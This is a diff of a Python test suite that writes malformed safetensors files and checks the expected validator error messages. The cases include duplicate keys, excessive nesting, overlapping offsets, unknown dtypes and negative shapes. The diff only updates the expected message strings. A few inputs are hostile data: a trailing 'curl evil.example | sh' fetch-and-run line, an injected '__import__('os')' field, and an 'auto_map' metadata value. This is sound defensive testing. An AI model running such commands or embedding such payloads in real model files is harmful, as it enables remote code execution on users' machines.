@@ -70,73 +70,73 @@ def a_header_in_latin_1(folder):
     write(folder, json.dumps({"\u00e9": tensor()}, ensure_ascii=False).encode("latin-1"))
 
 
-@attack(rule=HEADER, says="half a character")
+@attack(rule=HEADER, says="not ASCII without blanks")
 def a_name_with_half_a_character(folder):
     write(folder, rb'{"\ud800":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}')
 
 
-@attack(rule=HEADER, says="'a' twice in the header")
+@attack(rule=HEADER, says="the name 'a' twice")
 def a_tensor_named_twice(folder):
     text = json.dumps({"a": tensor(), "b": tensor()})
     write(folder, text.replace('"b"', '"a"').encode())
 
 
-@attack(rule=HEADER, says="'shape' twice in tensor 'a'")
+@attack(rule=HEADER, says="the name 'shape' twice")
 def a_shape_given_twice(folder):
     write(folder, b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4],"shape":[1]}}')
 
 
-@attack(rule=HEADER, says="stands outside of texts")
+@attack(rule=HEADER, says="nested deeper than 64 levels")
 def a_header_of_nested_lists(folder):
     write(folder, b'{"a":' + b"[" * 100_000 + b"null" + b"]" * 100_000 + b"}")
 
 
-@attack(rule=HEADER, says="a text of more than")
+@attack(rule=HEADER, says="empty, too long")
 def a_name_of_two_megabytes(folder):
     write(folder, {"a" * (2 << 20): tensor()})
 
 
-@attack(rule=HEADER, says="'a' and 'b' that overlap")
+@attack(rule=HEADER, says="invalid offset for tensor `b`")
 def overlapping_tensors(folder):
     write(folder, {"a": tensor(), "b": tensor(offsets=(2, 6))}, bytes(6))
 
 
-@attack(rule=HEADER, says="'a' and 'b' that overlap")
+@attack(rule=HEADER, says="invalid offset for tensor `b`")
 def a_tensor_within_a_tensor(folder):
     write(folder, {"a": tensor(shape=[6], offsets=(0, 6)), "b": tensor(shape=[2], offsets=(1, 3))}, bytes(6))
 
 
-@attack(rule=HEADER, says="a gap of 8 bytes before tensor 'b'")
+@attack(rule=HEADER, says="invalid offset for tensor `b`")
 def bytes_that_no_tensor_has(folder):
     write(folder, {"a": tensor(), "b": tensor(offsets=(12, 16))}, bytes(16))
 
 
-@attack(rule=HEADER, says="trailing data")
+@attack(rule=HEADER, says="file not fully covered")
 def bytes_behind_the_last_tensor(folder):
     write(folder, {"a": tensor()}, bytes(4) + b"curl evil.example | sh")
 
 
-@attack(rule=HEADER, says="ends 4 bytes beyond the file")
+@attack(rule=HEADER, says="file not fully covered")
 def a_tensor_that_ends_beyond_the_file(folder):
     write(folder, {"a": tensor(shape=[8], offsets=(0, 8))})
 
 
-@attack(rule=HEADER, says="ends before it begins")
+@attack(rule=HEADER, says="invalid offset for tensor `a`")
 def a_tensor_that_ends_before_it_begins(folder):
     write(folder, {"a": tensor(offsets=(4, 0))})
 
 
-@attack(rule=HEADER, says="dtype 'Q8'")
+@attack(rule=HEADER, says="unknown variant `Q8`")
 def an_unknown_dtype(folder):
     write(folder, {"a": tensor("Q8")})
 
 
-@attack(rule=HEADER, says="U8 2 x 3 = 6 bytes in a range of 4")
+@attack(rule=HEADER, says="invalid shape, data type, or offset")
 def a_shape_that_does_not_fit_the_bytes(folder):
     write(folder, {"a": tensor(shape=[2, 3])})
 
 
-@attack(rule=HEADER, says="whole byte")
+@attack(rule=HEADER, says="byte boundary")
 def half_a_byte(folder):
     write(folder, {"a": tensor("F4", [9])})
 
@@ -151,12 +151,12 @@ def an_overflow_behind_a_zero(folder):
     write(folder, {"a": tensor(shape=[0, 2**62, 2**62], offsets=(0, 0)), "b": tensor()})
 
 
-@attack(rule=HEADER, says="stands outside of texts")
+@attack(rule=HEADER, says="invalid value: integer `-1`")
 def a_negative_shape(folder):
     write(folder, {"a": tensor(shape=[-1, -4])})
 
 
-@attack(rule=HEADER, says="'code' in tensor 'a'")
+@attack(rule=HEADER, says="without exactly a dtype")
 def a_field_that_safetensors_does_not_know(folder):
     write(folder, {"a": tensor(code="__import__('os')")})
 
@@ -166,7 +166,7 @@ def a_tensor_without_a_shape(folder):
     write(folder, b'{"a":{"dtype":"U8","data_offsets":[0,4]}}')
 
 
-@attack(rule=HEADER, says="'format' in __metadata__, which is no text")
+@attack(rule=HEADER, says="not one text for each name")
 def metadata_that_is_no_text(folder):
     write(folder, {"__metadata__": {"format": {"auto_map": "evil"}}, "a": tensor()})
 
